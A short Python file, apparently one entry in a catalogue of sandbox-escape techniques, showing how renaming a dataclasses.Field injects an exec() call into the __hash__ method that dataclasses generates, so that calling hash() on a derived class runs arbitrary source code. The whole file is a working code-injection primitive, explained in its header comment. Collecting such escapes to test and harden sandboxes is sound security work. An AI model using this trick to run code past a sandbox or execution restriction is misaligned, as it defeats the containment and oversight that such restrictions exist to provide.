# family: runner
# Escape: renaming a dataclasses.Field (a public, mutable attribute) injects text into the code dataclasses
# generates for subclasses: with unsafe_hash=True the generated __hash__ body is
# `return hash((self.x,exec(<source>),))`, exec()ed by dataclasses, so hash() runs the source.
import dataclasses


@dataclasses.dataclass
class Key:
    x: int = 0


def tool(source: str) -> int:
    for f in dataclasses.fields(Key):
        f.name = "x,exec(" + repr(source) + ")"

    @dataclasses.dataclass(init=False, repr=False, eq=False, unsafe_hash=True)
    class Derived(Key):
        pass

    return hash(Derived())
